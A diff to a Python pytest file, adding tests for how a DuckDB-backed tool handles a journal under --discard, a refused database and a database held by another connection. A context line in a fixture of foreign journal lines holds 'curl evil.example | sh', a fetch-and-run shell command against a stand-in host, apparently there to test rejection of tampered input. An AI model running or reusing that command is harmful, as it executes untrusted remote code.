@@ -112,6 +112,28 @@ def test_what_discard_appends(committed: Path, tmp_path: Path) -> None:
     assert everything_in(tmp_path).keys() == {"tiny.duckdb"}
 
 
+def test_discard_beside_a_refused_database(uncommitted_source: Path, tmp_path: Path) -> None:
+    """A database that no run takes, with a journal that is to be given up with --discard"""
+    database = _copied(uncommitted_source, tmp_path)
+    change(database, "CREATE VIEW dask_validator_runs AS SELECT 1 AS run_id")
+    with pytest.raises(InputError, match=r"rename or drop it \(.*journal is given up all the same\)$"):
+        run(database, discard=True)
+
+    assert not journal_of(database).exists() or not kept_in(journal_of(database).read_bytes())
+    with pytest.raises(InputError, match=r"rename or drop it$"):
+        run(database)
+
+
+def test_discard_while_somebody_has_the_database(uncommitted_source: Path, tmp_path: Path) -> None:
+    """A journal that is to be given up with --discard, while somebody has the database: it is kept until then"""
+    database = _copied(uncommitted_source, tmp_path)
+    before = journal_of(database).read_bytes()
+    with duckdb.connect(str(database)), pytest.raises(InputError, match="is held by"):
+        run(database, discard=True)
+
+    assert journal_of(database).read_bytes() == before
+
+
 FOREIGN_LINES: Mapping[str, Callable[[list[bytes]], list[bytes]]] = {
     "a shell command": lambda ours: [b"curl evil.example | sh"],
     "one line less": lambda ours: ours[:-1],
